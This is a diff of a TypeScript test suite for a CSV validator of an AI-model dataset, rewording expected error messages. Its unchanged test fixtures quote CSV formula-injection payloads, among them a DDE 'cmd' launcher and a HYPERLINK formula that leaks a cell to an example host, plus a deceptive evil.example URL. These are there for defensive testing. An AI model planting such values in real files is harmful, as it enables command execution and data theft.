@@ -21,7 +21,7 @@ const target = (name: string) => /^([a-z-]+)\.[a-z0-9-]+\.csv$/.exec(name)?.[1]?
 const CORPUS: [string, string[]][] = [
   ['active-exceeds-total.csv', ["data/models.csv:2:7: active_params_billion: 200 active exceeds 100 total parameters"]],
   ['bad-date.csv', ["data/models.csv:2:5: release_date: expected a month 01–12, got \"2023-13\""]],
-  ['bad-id.csv', ["data/architectures.csv:2:1: model_id: \"base-7b\" is not an id in models.csv","data/models.csv:2:1: id: expected a lowercase id of letters, digits, \"-\", \"_\" and \".\" (like \"llama-2-70b\"), got \"Base 7B\"","data/provenance.csv:2:2: model_id: \"base-7b\" is not an id in models.csv","data/surveys/s-2023/cards.csv:2:13: model_id: \"base-7b\" is not an id in models.csv","data/training.csv:2:1: model_id: \"base-7b\" is not an id in models.csv"]],
+  ['bad-id.csv', ["data/models.csv:2:1: id: expected a lowercase id of letters, digits, \"-\", \"_\" and \".\" (like \"llama-2-70b\"), got \"Base 7B\" (skipped until this is fixed: 4 ids that point at it)"]],
   ['blank-lines.csv', []],
   ['booleans-not-yes-no.csv', ["data/models.csv:2:10: instruction_tuned: expected \"yes\" or \"no\", got \"true\"","data/models.csv:2:11: rlhf: expected \"yes\" or \"no\", got \"false\""]],
   ['cjk-emoji-bom-crlf.csv', []],
@@ -30,7 +30,7 @@ const CORPUS: [string, string[]][] = [
   ['duplicate-header.csv', ["data/models.csv:1:23: duplicate column \"name\" (also column 2)"]],
   ['duplicate-id.csv', ["data/models.csv:3:1: id: duplicate \"base-7b\" (first on line 2)"]],
   ['emoji-joiner.csv', []],
-  ['empty-file.csv', ["data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids in other files that point into it)"]],
+  ['empty-file.csv', ["data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids that point into it)"]],
   ['formula-cells.csv', ["data/models.csv:2:2: name: starts with \"=\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"=HYPERLINK(\\\"http://example.com\\\")\"","data/models.csv:2:4: organization: starts with \"+\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"+Lab\"","data/models.csv:2:22: locator: starts with \"@\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"@SUM(A1)\""]],
   ['formula-dde.csv', ["data/models.csv:2:2: name: starts with \"-\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"-2+3+cmd|' /C calc'!A0\"","data/models.csv:2:16: hardware_type: starts with \"+\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"+1+1\"","data/models.csv:2:22: locator: starts with \"@\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"@SUM(A1:A9)\""]],
   ['formula-hyperlink.csv', ["data/models.csv:2:2: name: starts with \"=\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"=HYPERLINK(\\\"http://example.com/?leak=\\\"&A1,\\\"details\\\")\""]],
@@ -41,37 +41,37 @@ const CORPUS: [string, string[]][] = [
   ['html-in-text.csv', []],
   ['id-file-name.csv', ["data/models.csv:4:1: id: expected an id that does not end like a file name (\".html\"), got \"index.html\" — it names a folder of the built site"]],
   ['id-too-long.csv', ["data/models.csv:4:1: id: is 300 characters long; an id holds at most 80"]],
-  ['invalid-utf8.csv', ["data/models.csv:3:14: is not valid UTF-8 (byte 0xff); save the file as UTF-8 (skipped until this is fixed: 4 ids in other files that point into it)"]],
-  ['key-column-renamed.csv', ["data/models.csv:1:1: unknown column \"ID\"; expected one of id, name, family, organization, release_date, params_billion, active_params_billion, access, base_model, instruction_tuned, rlhf, pretrain_tokens_billion, pretrain_data_gb, data_cutoff, hardware_count, hardware_type, training_days, eval_icl, eval_cot, url, reference, locator","data/models.csv:1:23: missing column \"id\" (skipped until this is fixed: 5 ids in other files that point into it)"]],
-  ['latin1-encoded.csv', ["data/models.csv:2:12: is not valid UTF-8 (byte 0xe9); save the file as UTF-8 (skipped until this is fixed: 4 ids in other files that point into it)"]],
+  ['invalid-utf8.csv', ["data/models.csv:3:14: is not valid UTF-8 (byte 0xff); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)"]],
+  ['key-column-renamed.csv', ["data/models.csv:1:1: unknown column \"ID\"; expected one of id, name, family, organization, release_date, params_billion, active_params_billion, access, base_model, instruction_tuned, rlhf, pretrain_tokens_billion, pretrain_data_gb, data_cutoff, hardware_count, hardware_type, training_days, eval_icl, eval_cot, url, reference, locator","data/models.csv:1:23: missing column \"id\" (skipped until this is fixed: 5 ids that point into it)"]],
+  ['latin1-encoded.csv', ["data/models.csv:2:12: is not valid UTF-8 (byte 0xe9); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)"]],
   ['missing-column.csv', ["data/models.csv:1:22: missing column \"access\""]],
   ['missing-required.csv', ["data/models.csv:2:21: reference: required, but the cell is empty"]],
   ['mixed-line-endings.csv', []],
   ['name-invisible-only.csv', ["data/models.csv:2:2: name: contains the invisible character U+200B at position 1; remove it","data/models.csv:3:2: name: has no visible character, got \"ㅤ\"; write the text or leave the cell empty"]],
   ['negative-number.csv', ["data/models.csv:2:6: params_billion: expected a number ≥ 0, got \"-7\""]],
   ['newline-in-cell.csv', ["data/models.csv:2:2: name: contains a line break; keep a cell on one line"]],
-  ['nul-bytes.csv', ["data/models.csv:2:13: contains a NUL byte: this is not a CSV text file (skipped until this is fixed: 4 ids in other files that point into it)"]],
+  ['nul-bytes.csv', ["data/models.csv:2:13: contains a NUL byte: this is not a CSV text file (skipped until this is fixed: 4 ids that point into it)"]],
   ['number-beyond-2-53.csv', ["data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got \"100000000000000000000000\" — numbers beyond 9007199254740991 (2^53 − 1) lose digits","data/models.csv:2:15: hardware_count: expected a whole number in accelerators, got \"12345678901234567890123\" — numbers beyond 9007199254740991 (2^53 − 1) lose digits","data/models.csv:3:6: params_billion: expected a plain number in billions, got \"1e400\" — numbers beyond 9007199254740991 (2^53 − 1) lose digits","data/models.csv:3:15: hardware_count: expected a whole number in accelerators, got \"9007199254740993\" — numbers beyond 9007199254740991 (2^53 − 1) lose digits"]],
   ['number-negative-zero.csv', ["data/models.csv:2:6: params_billion: expected a plain number in billions, got \"-0\" — write 0 without a minus sign","data/models.csv:2:13: pretrain_data_gb: expected a plain number in gigabytes, got \"-0.0\" — write 0 without a minus sign"]],
   ['number-rounded.csv', ["data/models.csv:2:6: params_billion: expected a plain number in billions, got \"0.1000000000000000055511151231257827\" — it has more digits than can be stored and would become 0.1","data/models.csv:2:17: training_days: expected a plain number in days, got \"21.000000000000001\" — it has more digits than can be stored and would become 21","data/models.csv:3:15: hardware_count: expected a whole number, got \"2048.5\""]],
   ['number-underflow.csv', ["data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got \"1e-400\" — it is too small to store and would become 0","data/models.csv:3:17: training_days: expected a plain number in days, got \"1e-330\" — it is too small to store and would become 0"]],
-  ['only-bom.csv', ["data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids in other files that point into it)"]],
+  ['only-bom.csv', ["data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids that point into it)"]],
   ['provenance.column-not-a-value.csv', ["data/provenance.csv:3:3: column: \"reference\" is not a value column of models.csv; a cell's own source goes in the reference and locator columns of this provenance row","data/provenance.csv:4:3: column: \"refrence\" is not a value column of models.csv","data/provenance.csv:5:3: column: \"relese_date\" is not a value column of models.csv — did you mean \"release_date\"?"]],
   ['references.uncited.csv', ["data/references.csv:3:1: warning: id: \"ref-b\" is cited by no row of models.csv, architectures.csv, training.csv, provenance.csv; cite it or remove it"]],
-  ['references.unclosed-quote.csv', ["data/references.csv:2:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 4 ids in other files that point into it)","data/references.csv:2:2: too few fields: expected 6, got 1"]],
+  ['references.unclosed-quote.csv', ["data/references.csv:2:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 4 ids that point into it)","data/references.csv:2:2: too few fields: expected 6, got 1"]],
   ['rtl-override.csv', ["data/models.csv:2:2: name: contains the invisible control character U+202E at position 6; remove it"]],
   ['self-base.csv', ["data/models.csv:3:9: base_model: a model cannot be its own base model"]],
-  ['semicolon-delimited.csv', ["data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 1 row of this file, 4 ids in other files that point into it)"]],
-  ['semicolon-with-commas.csv', ["data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 2 rows of this file, 4 ids in other files that point into it)"]],
+  ['semicolon-delimited.csv', ["data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 1 row of this file, 4 ids that point into it)"]],
+  ['semicolon-with-commas.csv', ["data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 2 rows of this file, 4 ids that point into it)"]],
   ['stray-quote.csv', []],
   ['surveys.id-file-name.csv', ["data/surveys.csv:3:1: id: expected an id that does not end like a file name (\".html\"), got \"index.html\" — it names a folder of the built site"]],
-  ['tab-delimited.csv', ["data/models.csv:1:1: header is separated by tabs; use commas (skipped until this is fixed: 1 row of this file, 4 ids in other files that point into it)"]],
+  ['tab-delimited.csv', ["data/models.csv:1:1: header is separated by tabs; use commas (skipped until this is fixed: 1 row of this file, 4 ids that point into it)"]],
   ['text-zero-width.csv', ["data/models.csv:2:2: name: contains the invisible character U+200B at position 5; remove it","data/models.csv:2:4: organization: contains the invisible character U+2060 at position 8; remove it","data/models.csv:2:16: hardware_type: contains the invisible character U+00AD at position 5; remove it","data/models.csv:2:22: locator: contains the invisible character U+E0041 at position 8; remove it","data/models.csv:3:2: name: contains the invisible character U+200C at position 5; remove it","data/models.csv:3:4: organization: contains the invisible character U+200D at position 8; remove it"]],
   ['thousands-separator.csv', ["data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got \"1,000\" — drop the thousands separators"]],
   ['too-few-fields.csv', ["data/models.csv:2:4: too few fields: expected 22, got 3"]],
   ['too-many-fields.csv', ["data/models.csv:2:23: too many fields: expected 22, got 23"]],
   ['trailing-comma.csv', ["data/models.csv:2:23: too many fields: expected 22, got 23"]],
-  ['unclosed-quote.csv', ["data/models.csv:3:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 4 ids in other files that point into it)","data/models.csv:3:2: too few fields: expected 22, got 1"]],
+  ['unclosed-quote.csv', ["data/models.csv:3:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 4 ids that point into it)","data/models.csv:3:2: too few fields: expected 22, got 1"]],
   ['units-in-numbers.csv', ["data/models.csv:2:6: params_billion: expected a plain number in billions, got \"7B\" — drop the unit","data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got \"1.4T\" — drop the unit"]],
   ['unknown-column.csv', ["data/models.csv:1:23: unknown column \"size\"; expected one of id, name, family, organization, release_date, params_billion, active_params_billion, access, base_model, instruction_tuned, rlhf, pretrain_tokens_billion, pretrain_data_gb, data_cutoff, hardware_count, hardware_type, training_days, eval_icl, eval_cot, url, reference, locator"]],
   ['unknown-enum.csv', ["data/models.csv:2:8: access: expected one of open-weights, api, closed, got \"Open Weights\" — did you mean \"open-weights\"?"]],
@@ -81,9 +81,9 @@ const CORPUS: [string, string[]][] = [
   ['url-space.csv', ["data/models.csv:2:20: url: contains a space (U+0020) at position 27; a URL has none, write it as %20","data/models.csv:3:20: url: contains a space (U+00A0) at position 27; a URL has none, write it as %20"]],
   ['url-upper-case-scheme.csv', []],
   ['url-user-info.csv', ["data/models.csv:2:20: url: expected a URL without a user name before \"@\", got \"https://arxiv.org@evil.example/abs/2302.00000\" — it leads to evil.example, not to what it shows","data/models.csv:3:20: url: contains a backslash at position 21, which browsers read as \"/\"; write \"/\" or %5C"]],
-  ['utf16-without-bom.csv', ["data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: \"CSV UTF-8\") (skipped until this is fixed: 4 ids in other files that point into it)"]],
-  ['utf16.csv', ["data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: \"CSV UTF-8\") (skipped until this is fixed: 4 ids in other files that point into it)"]],
-  ['windows-1252.csv', ["data/models.csv:4:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8 (skipped until this is fixed: 4 ids in other files that point into it)","data/models.csv:5:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:6:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:7:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:8:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:9:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:10:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:11:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:12:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:13:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:14:9: is not valid UTF-8 (byte 0xe8), and 1 later line is not either (12 lines in all); save the file as UTF-8"]],
+  ['utf16-without-bom.csv', ["data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: \"CSV UTF-8\") (skipped until this is fixed: 4 ids that point into it)"]],
+  ['utf16.csv', ["data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: \"CSV UTF-8\") (skipped until this is fixed: 4 ids that point into it)"]],
+  ['windows-1252.csv', ["data/models.csv:4:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)","data/models.csv:5:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:6:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:7:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:8:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:9:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:10:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:11:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:12:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:13:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8","data/models.csv:14:9: is not valid UTF-8 (byte 0xe8), and 1 later line is not either (12 lines in all); save the file as UTF-8"]],
 ];
 
 describe('the bad-input corpus', () => {
@@ -131,8 +131,8 @@ describe('the bad-input corpus', () => {
       rmSync(join(dir, name));
       return loadDataset(dir, { displayDir: 'data', today: '2026-01-01' }).issues.map(formatIssue);
     };
-    expect(without('models.csv')).toEqual(['data/models.csv:1:1: file is missing (skipped until this is fixed: 4 ids in other files that point into it)']);
-    expect(without('references.csv')).toEqual(['data/references.csv:1:1: file is missing (skipped until this is fixed: 4 ids in other files that point into it)']);
+    expect(without('models.csv')).toEqual(['data/models.csv:1:1: file is missing (skipped until this is fixed: 4 ids that point into it)']);
+    expect(without('references.csv')).toEqual(['data/references.csv:1:1: file is missing (skipped until this is fixed: 4 ids that point into it)']);
   });
 
   // On a copy of the real data, where each of these once gave 36 to 392 lines of follow-on errors.
@@ -146,12 +146,12 @@ describe('the bad-input corpus', () => {
       return loadDataset(dir, { displayDir: 'data' }).issues.map(formatIssue);
     };
     test.each([
-      ['models.csv', 'missing', () => undefined, /^data\/models\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids in other files that point into it\)$/],
+      ['models.csv', 'missing', () => undefined, /^data\/models\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids that point into it\)$/],
       ['references.csv', 'missing', () => undefined, /^data\/references\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids/],
       ['models.csv', 'separated by semicolons', (b: Buffer) => Buffer.from(b.toString('utf8').replace(/,/g, ';')), /^data\/models\.csv:1:1: header is separated by semicolons; use commas \(skipped until this is fixed: \d+ rows of this file, \d+ ids/],
       ['models.csv', 'saved as UTF-16', (b: Buffer) => Buffer.from(`\ufeff${b.toString('utf8')}`, 'utf16le'), /^data\/models\.csv:1:1: is UTF-16; save it as UTF-8/],
       ['architectures.csv', 'missing', () => undefined, /^data\/architectures\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids/],
-      ['survey-tables.csv', 'missing', () => undefined, /^data\/survey-tables\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids in other files that point into it, \d+ survey table files\)$/],
+      ['survey-tables.csv', 'missing', () => undefined, /^data\/survey-tables\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids that point into it, \d+ survey table files\)$/],
       ['provenance.csv', 'separated by semicolons', (b: Buffer) => Buffer.from(b.toString('utf8').replace(/,/g, ';')), /^data\/provenance\.csv:1:1: header is separated by semicolons; use commas \(skipped until this is fixed: \d+ rows of this file\)$/],
       ['models.csv', 'with its id column renamed', (b: Buffer) => Buffer.from(b.toString('utf8').replace(/^id,/, 'model,')), /missing column "id" \(skipped until this is fixed/],
     ])('%s %s', (file, _how, change, cause) => {
